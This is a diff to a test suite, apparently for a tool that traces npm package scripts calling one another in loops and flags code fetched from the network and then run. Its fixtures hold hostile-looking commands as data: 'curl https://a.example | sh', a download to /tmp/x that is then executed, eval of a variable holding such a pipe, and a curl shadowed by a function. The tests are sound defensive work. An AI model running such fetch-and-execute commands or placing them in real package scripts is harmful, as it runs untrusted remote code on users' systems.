@@ -72,8 +72,50 @@ it('hands folded and decoded text over for a second look', () => {
   expect(desk.texts).toEqual(['folded curl https://a.example', 'decoded https://b.example'])
 })
 
-it('follows scripts of the package, in a circle once', () => {
-  const desk = new FakeDesk({}, { a: 'npm run b', b: 'npm run a && curl https://a.example | sh' })
-  desk.shell('npm run a', placed('npm run a'))
-  expect(desk.lines).toContain('execute<fetched> sh sh')
+describe('scripts of the package that start one another', () => {
+  const read = (scripts: Readonly<Record<string, string>>, line = 'npm run a'): FakeDesk => {
+    const desk = new FakeDesk({}, scripts)
+    desk.shell(line, placed(line))
+    return desk
+  }
+  const RUNS = expect.arrayContaining([expect.stringMatching(/^(?:execute|spawn)<fetched> /)])
+
+  it.each<[string, Readonly<Record<string, string>>]>([
+    ['itself', { a: 'npm run a' }],
+    ['each other', { a: 'npm run b', b: 'npm run a && eslint .' }],
+    ['by what runs before and after', { a: 'tape test/*.js', posta: 'npm run b', b: 'cd test/b && npm install && npm run a' }],
+    ['with a variable that is always the same', { a: 'X=1 npm run b', b: 'npm run a' }],
+    ['with a file that is always the same', { a: 'echo hi > x.txt && npm run b', b: 'npm run a' }],
+    ['from within a function', { a: 'f() { npm run a; }; f' }],
+    ['in two circles', { a: 'npm run b; npm run c', b: 'npm run a; npm run c', c: 'npm run b; npm run c; npm test', test: 'npm run a' }],
+  ])('%s, round and round, are read once', (_how, scripts) => {
+    expect(read(scripts).missing).toEqual([])
+  })
+
+  it('are read to their end', () => {
+    const desk = read({ a: 'npm run b', b: 'npm run a && curl https://a.example | sh' })
+    expect(desk.lines).toContain('execute<fetched> sh sh')
+    expect(desk.missing).toEqual([])
+  })
+
+  it.each<[string, Readonly<Record<string, string>>]>([
+    ['a variable', { a: `eval "$X"; X='curl https://a.example | sh' npm run a` }],
+    ['a variable of the script before', { a: 'eval "$X"; npm run b', b: `X='curl https://a.example | sh'; npm run a` }],
+    ['a file', { a: 'sh /tmp/x; curl https://a.example -o /tmp/x; npm run a' }],
+    ['what an archive let loose', { a: 'sh ./x/y; curl https://a.example | tar x; npm run a' }],
+    ['a function', { a: 'f; f() { curl https://a.example | sh; }; npm run a' }],
+    ['the third round', { a: `eval "$Y"; Y="$X" X='curl https://a.example | sh' npm run a` }],
+    ['a function that means the program again', { a: 'curl() { :; }; curl https://a.example; curl() { npm run b; }; npm run b', b: 'curl https://a.example | sh' }],
+  ])('are read again for %s that the round before left', (_what, scripts) => {
+    expect(read(scripts).lines).toEqual(RUNS)
+  })
+
+  it.each<[string, Readonly<Record<string, string>>]>([
+    ['for whoever started it', { a: 'npm run a; sh /tmp/x; curl https://a.example -o /tmp/x' }],
+    ['for a round in between', { a: 'npm run b; sh /tmp/x', b: 'npm run a; curl https://a.example -o /tmp/x' }],
+    ['that grows with every round', { a: 'X="$X."; npm run a' }],
+    ['that comes and goes', { a: 'X=1; npm run b', b: 'X=2; npm run a' }],
+  ])('are not called read when something is left %s', (_whom, scripts) => {
+    expect(read(scripts).missing).not.toEqual([])
+  })
 })
